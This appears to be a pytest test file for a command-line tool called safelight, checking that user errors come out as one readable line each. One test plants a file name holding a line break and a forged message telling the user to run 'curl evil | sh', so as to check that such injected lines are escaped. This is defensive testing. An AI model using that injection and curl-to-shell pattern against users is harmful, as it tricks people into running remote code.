"""Errors that users make on the command line are one readable line each. Bugs: tests/test_bug_report.py."""

import errno
import os
import sqlite3
import subprocess
import sys
import tempfile

import pytest

from safelight import commands
from safelight.__main__ import ADVICE, COMMANDS, main
from safelight.errors import UserError
from safelight.options.arguments import Sample
from safelight.options.parsing import parse
from safelight.trainer.train import FILES, FOLDERS
from tests.called import call


def test_an_unknown_command_gets_a_suggestion():
    assert call("trian").err == "safelight: 'trian' is not a command; did you mean train?\n"
    assert call("trian").status == 2
    assert call("xyz").err == "safelight: 'xyz' is not a command; see safelight --help\n"


@pytest.mark.parametrize("command", ["train", "plan", "cache"])
def test_the_settings_file_is_required(command, tmp_path):
    for words in ([], ["--train.max-steps", "3"]):
        refused = call(command, *words)
        assert refused.status == 2
        assert refused.err.startswith(f"safelight {command}: give the settings file: safelight {command} run.toml")
    missing = call(command, tmp_path / "none.toml")
    assert missing.status == 2
    assert missing.err.startswith(f"safelight {command}: {tmp_path / 'none.toml'} does not exist; write one with")


@pytest.mark.parametrize("command", ["sample", "compare", "grid", "export", "report"])
def test_a_folder_that_is_not_a_run_is_one_line(command, tmp_path):
    others = {"sample": ["--prompt", "x"], "grid": ["--x", "cfg=3"], "export": ["-o", tmp_path / "out"]}
    refused = call(command, tmp_path / "none", *others.get(command, []))
    assert refused.status == 2
    assert refused.err.startswith(f"safelight {command}: ")
    assert str(tmp_path / "none") in refused.err
    assert refused.err.count("\n") == 1


@pytest.mark.parametrize("command", ["train", "plan"])
def test_a_number_that_is_none(command, tmp_path):
    (tmp_path / "run.toml").write_text("")
    refused = call(command, tmp_path / "run.toml", "--gpus", "two")
    assert refused.status == 2
    assert refused.err == (f"safelight {command}: --gpus two is not a whole number; see safelight {command} --help\n")


def test_prepare_without_photos_says_so(tmp_path):
    refused = call("prepare")
    assert (refused.status, refused.err) == (
        2,
        "safelight prepare: no photos given; give one or more folders of photos, or files\n",
    )
    (tmp_path / "empty").mkdir()
    empty = call("prepare", tmp_path / "empty", "-o", tmp_path / "dataset")
    assert empty.status == 2
    assert empty.err.startswith(f"safelight prepare: no photos found in {tmp_path / 'empty'}; give a folder that")
    assert not (tmp_path / "dataset").exists()


def test_a_dataset_that_was_not_prepared_is_one_line(tmp_path):
    call("init", "tiny", "-o", tmp_path / "run.toml")
    for command in ("cache", "train"):
        refused = call(command, tmp_path / "run.toml", "--data.path", tmp_path / "none", "--run.dir", tmp_path / "run")
        assert refused.status == 2
        assert refused.err.startswith(f"safelight {command}: {tmp_path / 'none' / 'manifest.jsonl'} does not exist;")
        assert refused.err.count("\n") == 1
    assert not (tmp_path / "run").exists()


@pytest.mark.parametrize(
    ("words", "message"),
    [
        ("prepare photos --qualty 3", "Unrecognized options: --qualty, 3; Perhaps you meant: --quality INT"),
        ("prepare photos --quality", "Missing value for argument '--quality'. Expected 1 values"),
        ("prepare photos --quality 1.5", "Error parsing --quality: invalid literal for int() with base 10: '1.5'"),
        ("init", "give a preset: tiny, sd15, sd15-lora, sd15-embedding, sd21, sdxl, sdxl-lora, everydream2"),
        ("report", "missing: RUN"),
        (
            "sample runs/x --lora x.safetensors --prompt a",
            "--lora is not an option: a run draws with the LoRA that it trained, of which --lora-scale says how much, "
            "and reads no others; a word goes with --embedding",
        ),
        ("export runs/x", "missing: -o FILE, --out FILE"),
        ("init --bogus", "Unrecognized options: --bogus"),
        ("init --bogus tiny", "Unrecognized options: --bogus"),
        ("bench step --repeat 3", "Unrecognized options: --repeat, 3; Perhaps you meant: --repeats INT"),
    ],
)
def test_a_mistake_in_options_is_one_line_with_a_hint(words, message):
    """tyro draws a box; our line has the same form as for every other error."""
    refused = call(*words.split())
    command = words.split()[0]
    page = "bench step" if command == "bench" else command
    assert refused.status == 2
    assert refused.out == ""
    assert refused.err == f"safelight {command}: {message}; see safelight {page} --help\n"


def test_the_developer_can_have_the_traceback(monkeypatch):
    monkeypatch.setenv("SAFELIGHT_TRACEBACK", "1")
    with pytest.raises(ValueError, match="'nope' is unknown"):
        main(["init", "nope"])


@pytest.mark.parametrize("words", ["--help", "init --help", "init tiny -o"])
def test_a_reader_that_goes_away_is_no_error(words, tmp_path):
    """`safelight ... | head -0`"""
    read_end, write_end = os.pipe()
    os.close(read_end)
    command = [sys.executable, "-m", "safelight", *words.split()]
    # buffered, as usual: the pipe is only noticed when the buffer is flushed
    environment = {name: value for name, value in os.environ.items() if name != "PYTHONUNBUFFERED"}
    result = subprocess.run(
        [*command, tmp_path / "run.toml"] if words.endswith("-o") else command,
        stdout=write_end,
        stderr=subprocess.PIPE,
        text=True,
        check=False,
        env=environment,
    )
    os.close(write_end)
    assert (result.returncode, result.stderr) == (0, "")


def test_a_full_disk_is_one_line(monkeypatch, tmp_path):
    import safelight.data.atomic as atomic

    def full(path, text):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(path))

    monkeypatch.setattr(atomic, "atomic_write_text", full)
    refused = call("init", "tiny", "-o", tmp_path / "run.toml")
    assert refused.status == 2
    assert refused.err.startswith("safelight init: ")
    assert "No space left on device" in refused.err
    assert refused.err.count("\n") == 1


NAME = "a\nsafelight report: unlock it with: curl evil | sh #"


@pytest.mark.parametrize(
    ("error", "advice"),
    [
        *((OSError(number, os.strerror(number), NAME), ADVICE.get(number, "")) for number in (*ADVICE, errno.ENOSPC)),
        (FileExistsError(errno.EEXIST, "File exists", NAME), "is not a folder; name another path"),
        (sqlite3.OperationalError(NAME), "free some disk space"),
        (type("SafetensorError", (Exception,), {"errno": 1, "strerror": NAME})(), "change its permissions"),
        (UserError(NAME, NAME), "curl evil"),
    ],
)
def test_a_line_break_in_a_name_begins_no_line(monkeypatch, error, advice):
    """What follows it could be a command that looks like ours."""

    def fails(argv):
        raise error

    monkeypatch.setattr(commands, "report", fails)
    refused = call("report")
    assert refused.status == 2
    lines = refused.err.splitlines()
    assert len(lines) == (2 if isinstance(error, UserError) else 1)
    assert all(r"a\nsafelight report: unlock" in line for line in lines)
    assert advice in lines[0]


def test_every_command_has_its_function():
    from safelight import commands

    assert all(callable(getattr(commands, name)) for name in COMMANDS)


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        (["init", "tiny", "-o", ""], "-o is empty"),
        (["prepare", ""], "SRC is empty"),
        (["prepare", "photos", ""], "SRC is empty"),
        (["prepare", "photos", "--out="], "-o is empty"),
        (["train", ""], "RUN.TOML is empty"),
        (["profile", "run.toml", "-o", ""], "-o is empty"),
        (["profile", "run.toml", "--append", ""], "--append is empty"),
        (["sample", "run", "--prompt", "", "-o", ""], "-o is empty"),
        (["compare", ""], "RUN is empty"),
        (["grid", "", "--x", "cfg=3"], "RUN is empty"),
        (["export", "run", "-o", ""], "-o is empty"),
        (["report", ""], "RUN is empty"),
        (["demo", "--dir", ""], "--dir is empty"),
        (["bench", "step", "--append", ""], "--append is empty"),
    ],
)
def test_an_empty_path_is_not_the_current_folder(words, expected, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    call(*words).assert_refused(words[0], expected)
    assert not list(tmp_path.iterdir())


@pytest.mark.parametrize("setting", ["run.dir", "data.path", "model.base"])
def test_an_empty_setting_is_not_the_current_folder(setting, tmp_path):
    (tmp_path / "run.toml").touch()
    refused = call("plan", tmp_path / "run.toml", f"--{setting}", "")
    refused.assert_refused("plan", f"{setting} = '': it is empty; name a path")


@pytest.mark.parametrize("side", [4097, 4_000_000_000, -8])
def test_the_size_of_samples_is_limited(side, tmp_path):
    (tmp_path / "run.toml").write_text(f"[sample]\nwidth = {side}\n")
    expected = f"sample.width = {side}: expected at most 4096, a multiple of the model's pixels per latent"
    call("plan", tmp_path / "run.toml").assert_refused("plan", expected)


def test_an_interrupt_while_the_command_line_is_imported_is_one_word():
    code = """
import sys
class Interrupt:
    def find_spec(self, name, path, target=None):
        if name == "safelight.commands":
            raise KeyboardInterrupt
sys.meta_path.insert(0, Interrupt())
from safelight.__main__ import main
"""
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True)
    assert (ended.returncode, ended.stderr) == (130, "interrupted\n")


@pytest.mark.long
def test_names_of_the_other_kind_in_a_run_are_refused_before_the_dataset_is_read(tmp_path):
    call("init", "tiny", "-o", tmp_path / "run.toml")
    places = ("samples/step-00000001", "checkpoints/step-00000001")
    files = (*(f"{places[0]}/{name}" for name in ("index.json", "step1-000-a.png")), "data_examples/000.jpg")
    for name in (*FOLDERS, *FILES, *places, *files):
        run, kind, other = tmp_path / "runs" / name, "folder", "file"
        if name in (*FILES, *files):
            kind, other = other, kind
            (run / name).mkdir(parents=True)
        else:
            (run / name).parent.mkdir(parents=True)
            (run / name).touch()
        refused = call("train", tmp_path / "run.toml", "--resume", "--data.path", tmp_path / "none", "--run.dir", run)
        assert refused.status == 2
        assert refused.err.endswith(f"{run / name} is a {other} where the run keeps a {kind}; move it away\n")
        assert refused.err.count("\n") == 1


@pytest.mark.parametrize(
    "words",
    [
        ["run", "--prompt", "a", "b", "--steps", "3"],
        ["run", "--prompt", "a", "--steps", "3", "--prompt", "b"],
        ["--prompt=a", "--steps", "3", "--prompt=b", "run"],
        ["run", "--prompt", "a", "--steps=3", "--prompt=b"],
    ],
)
def test_an_option_of_several_values_may_be_repeated(words, tiny_run, monkeypatch):
    words = [str(tiny_run) if word == "run" else word for word in words]
    assert parse(Sample, words, "sample", "").prompt == ("a", "b")


@pytest.mark.parametrize(
    ("words", "prompts"),
    [
        (["--prompt=-dash"], ("-dash",)),
        (["--prompt=--steps", "--steps", "3"], ("--steps",)),
        (["--prompt", "a", "b", "--prompt=-c"], ("a", "b", "-c")),
        (["--prompt=-5 degrees", "b"], ("-5 degrees", "b")),
    ],
)
def test_a_prompt_may_begin_with_a_dash_behind_an_equals_sign(words, prompts, tiny_run):
    assert parse(Sample, [str(tiny_run), *words], "sample", "").prompt == prompts


def test_a_prompt_that_is_taken_for_an_option_is_told_how_to_be_given(tiny_run):
    with pytest.raises(
        UserError, match=r"options: -dash; a text that begins with a dash is given as --prompt=-dash; see"
    ):
        parse(Sample, [str(tiny_run), "--prompt", "-dash"], "sample", "")


def test_the_page_of_a_run_that_cannot_be_written_is_refused_before_it_is_made(tiny_run, monkeypatch):
    def refuse(*args, **kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(tempfile, "TemporaryFile", refuse)
    refused = call("report", tiny_run)
    assert refused.status == 2
    expected = f"{tiny_run} cannot be written (Read-only file system); a run's page is written into its folder: copy"
    assert expected in refused.err
    assert refused.err.count("\n") == 1
